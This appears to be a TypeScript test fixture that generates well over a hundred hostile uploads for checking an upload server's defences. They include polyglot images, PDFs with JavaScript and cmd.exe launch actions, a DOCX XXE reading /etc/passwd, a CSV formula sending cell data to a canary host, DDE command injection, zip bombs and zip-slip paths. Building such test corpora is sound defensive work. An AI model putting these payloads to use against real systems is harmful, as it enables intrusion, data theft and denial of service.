import { HOSTILE_NAMES } from './hostile-names.js';
import {
  CANARY_HOST,
  HOSTILE_DRAWINGS,
  HOSTILE_PAGES,
  HTML,
  RUN,
  SCRIPT,
  SVG_OPEN,
} from './hostile-pages.js';
import { gif, jpegWithComment, pdf, png, PNG_SIGNATURE, zip } from './hostile-bytes.js';

/** Something that somebody with bad intent uploads. */
export interface HostileUpload {
  readonly title: string;
  readonly name: string;
  readonly bytes: Buffer;
  /**
   * `refused`: the server must not take it. `stored`: it is a file like any other, handed out as an attachment.
   * `either`: both are safe.
   */
  readonly expect: 'stored' | 'refused' | 'either';
  /** Whether a picture may be shown for it: only ever one made anew from pixels. */
  readonly picture: 'never' | 'perhaps';
}

type Case = readonly [
  title: string,
  name: string,
  content: Buffer | string,
  expect?: HostileUpload['expect'],
  picture?: HostileUpload['picture'],
];

const disguised: readonly Case[] = [
  ['html as a png', 'cat.png', HTML],
  ['html as a jpeg', 'cat.jpg', HTML],
  ['html as a gif', 'cat.gif', HTML],
  ['html as a webp', 'cat.webp', HTML],
  ['html as a pdf', 'report.pdf', HTML],
  ['html as a text', 'notes.txt', HTML],
  ['html as a table', 'list.csv', HTML],
  ['html as json', 'data.json', HTML],
  ['svg as a png', 'plan.png', `${SVG_OPEN}>${SCRIPT}</svg>`],
  ['svg as a jpeg', 'plan.jpg', `${SVG_OPEN} onload="${RUN}"/>`],
  ['svg as an avif', 'plan.avif', `${SVG_OPEN} onload="${RUN}"/>`],
  ['javascript as a png', 'code.png', RUN],
  ['a program as a png', 'tool.png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
  ['a png as html', 'picture.html', png(8, 8), 'stored', 'perhaps'],
  ['a png as svg', 'picture.svg', png(8, 8), 'stored', 'perhaps'],
  ['a zip as a docx', 'letter.docx', zip([{ name: 'a.txt', content: 'x' }])],
  ['a pdf as a png', 'scan.png', pdf('')],
  ['a table as a program', 'list.exe', 'a,b\n1,2'],
];

const polyglots: readonly Case[] = [
  ['gif and javascript', 'both.gif', gif(Buffer.from('/*\0\0'), `*/=1;${RUN}`), 'stored', 'perhaps'],
  ['gif and html', 'page.gif', gif(Buffer.from([1, 0, 1, 0]), HTML), 'stored', 'perhaps'],
  ['png and html behind it', 'page.png', png(8, 8, { after: HTML }), 'stored', 'perhaps'],
  ['png with html in its words', 'words.png', png(8, 8, { texts: { Comment: HTML } }), 'stored', 'perhaps'],
  [
    'png with a script in its title',
    'title.png',
    png(8, 8, { texts: { Title: SCRIPT } }),
    'stored',
    'perhaps',
  ],
  [
    'png and zip',
    'zip.png',
    png(8, 8, { after: zip([{ name: 'x.html', content: HTML }]) }),
    'stored',
    'perhaps',
  ],
  ['png and php', 'php.png', png(8, 8, { after: '<?php phpinfo(); ?>' }), 'stored', 'perhaps'],
  ['jpeg with html in its comment', 'page.jpg', jpegWithComment(HTML), 'either'],
  ['jpeg and javascript', 'both.jpg', jpegWithComment(`*/=1;${RUN}/*`), 'either'],
  ['bmp and javascript', 'both.bmp', Buffer.from(`BM/*${'\0'.repeat(60)}*/=1;${RUN}`), 'either'],
  ['pdf and html', 'page.pdf', Buffer.concat([Buffer.from(HTML), pdf('')])],
  ['pdf and zip', 'zip.pdf', Buffer.concat([pdf(''), zip([{ name: 'x.html', content: HTML }])])],
  [
    'html behind the signature of a png',
    'sig.png',
    Buffer.concat([PNG_SIGNATURE, Buffer.from(HTML)]),
    'either',
  ],
  ['html behind the signature of a gif', 'sig.gif', `GIF89a${HTML}`, 'either'],
  ['html behind the signature of a webp', 'sig.webp', `RIFF\0\0\0\0WEBPVP8 ${HTML}`, 'either'],
  [
    'html behind the signature of an avif',
    'sig.avif',
    `\0\0\0\u001cftypavif\0\0\0\0avifmif1${HTML}`,
    'either',
  ],
  [
    'html behind the signature of an icon',
    'sig.ico',
    Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.from(HTML)]),
  ],
  ['html behind the signature of a tiff', 'sig.tif', `II*\0${HTML}`],
  ['html behind the signature of a video', 'sig.mp4', `\0\0\0\u0018ftypmp42${HTML}`],
  ['html behind the signature of a sound', 'sig.mp3', `ID3\u0003\0${HTML}`],
];

const papers: readonly Case[] = [
  ['pdf with javascript', 'js.pdf', pdf(`/OpenAction << /S /JavaScript /JS (${RUN}) >>`)],
  ['pdf that opens an address', 'uri.pdf', pdf(`/OpenAction << /S /URI /URI (https://${CANARY_HOST}/) >>`)],
  ['pdf that starts a program', 'launch.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  [
    'pdf that sends a form',
    'form.pdf',
    pdf(`/AA << /O << /S /SubmitForm /F (https://${CANARY_HOST}/) >> >>`),
  ],
  [
    'docx with an external entity',
    'xxe.docx',
    office('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>'),
  ],
  [
    'docx of a billion laughs',
    'laugh.docx',
    office(
      `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(500)}"><!ENTITY b "${'&a;'.repeat(500)}">]><w:document>&b;</w:document>`,
    ),
  ],
  [
    'docx with a template from elsewhere',
    'template.docx',
    office('<w:document/>', [
      {
        name: 'word/_rels/settings.xml.rels',
        content: `<Relationships><Relationship Target="https://${CANARY_HOST}/t.dotm" TargetMode="External"/></Relationships>`,
      },
    ]),
  ],
  [
    'docm with macros',
    'macro.docm',
    office('<w:document/>', [{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]),
  ],
  [
    'xlsx with a data connection',
    'link.xlsx',
    zip([
      { name: 'xl/workbook.xml', content: '<workbook/>' },
      { name: 'xl/connections.xml', content: `<connections url="https://${CANARY_HOST}/"/>` },
    ]),
  ],
  ['rtf with an object', 'object.rtf', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word}}}'],
  ['csv with a formula', 'formula.csv', `=HYPERLINK("https://${CANARY_HOST}/?"&A1,"x")\n`],
  ['csv that starts a program', 'dde.csv', `=cmd|' /C calc'!A0\n+1+1\n-2\n@SUM(1)\n`],
  ['csv with a tab before its formula', 'tab.csv', '\t=1+1\n\r=2+2'],
  ['json named like a prototype', 'proto.json', '{"__proto__":{"isAdmin":true}}'],
  ['a calendar entry', 'a.ics', `BEGIN:VCALENDAR\nATTACH:https://${CANARY_HOST}/\nEND:VCALENDAR`],
  ['a mail with html', 'a.eml', `Content-Type: text/html\n\n${HTML}`],
];

const bombs: readonly Case[] = [
  ['zip bomb', 'bomb.zip', zip([{ name: 'zero', content: Buffer.alloc(64 * 1024 * 1024) }])],
  [
    'zip in zip in zip',
    'nested.zip',
    zip([
      {
        name: 'a.zip',
        content: zip([{ name: 'b.zip', content: zip([{ name: 'c', content: Buffer.alloc(1_000_000) }]) }]),
      },
    ]),
  ],
  ['zip that lies about its size', 'lie.zip', zip([{ name: 'a', content: 'x', claimedSize: 0xfffffff0 }])],
  ['zip with a way out of its folder', 'slip.zip', zip([{ name: '../../../../etc/cron.d/x', content: 'x' }])],
  ['zip with a way out of Windows', 'slip2.zip', zip([{ name: '..\\..\\x.exe', content: 'x' }])],
  [
    'zip of ten thousand entries',
    'many.zip',
    zip(Array.from({ length: 10_000 }, (_, index) => ({ name: `${index}`, content: '' }))),
  ],
  ['docx that is a bomb', 'bomb.docx', office(`<w:document>${' '.repeat(32 * 1024 * 1024)}</w:document>`)],
  ['png of 50,000 × 50,000 pixels', 'huge.png', png(50_000, 50_000, { pixels: Buffer.alloc(100) }), 'either'],
  [
    'png of the largest size there is',
    'max.png',
    png(0x7fffffff, 0x7fffffff, { pixels: Buffer.alloc(10) }),
    'either',
  ],
  ['png of 20,000 × 2,000 pixels, all there', 'wide.png', png(20_000, 2000), 'either', 'perhaps'],
  ['png of no width', 'zero.png', png(0, 9, { pixels: Buffer.alloc(9) }), 'either'],
  ['png cut in two', 'half.png', png(64, 64).subarray(0, 60), 'either'],
  ['gif of 65,535 × 65,535 pixels', 'huge.gif', gif(Buffer.from([255, 255, 255, 255])), 'either', 'perhaps'],
  ['nothing but the signature of a png', 'empty.png', PNG_SIGNATURE, 'either'],
  ['text of one line without an end', 'line.txt', 'a'.repeat(2_000_000)],
];

const names: readonly Case[] = HOSTILE_NAMES.map(([title, name, expect]) => [
  title,
  name,
  'harmless',
  expect,
]);

const empty: readonly Case[] = [
  ['no bytes', 'empty.txt', '', 'refused'],
  ['no bytes as a png', 'empty.png', '', 'refused'],
];

/** Every hostile upload: at least 150, always the same, none larger than 3 MiB. */
export function hostileUploads(): HostileUpload[] {
  const all = [
    ...HOSTILE_DRAWINGS,
    ...HOSTILE_PAGES,
    ...disguised,
    ...polyglots,
    ...papers,
    ...bombs,
    ...names,
    ...empty,
  ];
  return all.map(([title, name, content, expect = 'stored', picture = 'never']) => ({
    ...{ title, name, expect, picture },
    bytes: Buffer.from(content),
  }));
}

function office(document: string, more: { name: string; content: string }[] = []): Buffer {
  const types =
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  return zip([
    { name: '[Content_Types].xml', content: types },
    { name: 'word/document.xml', content: document },
    ...more,
  ]);
}
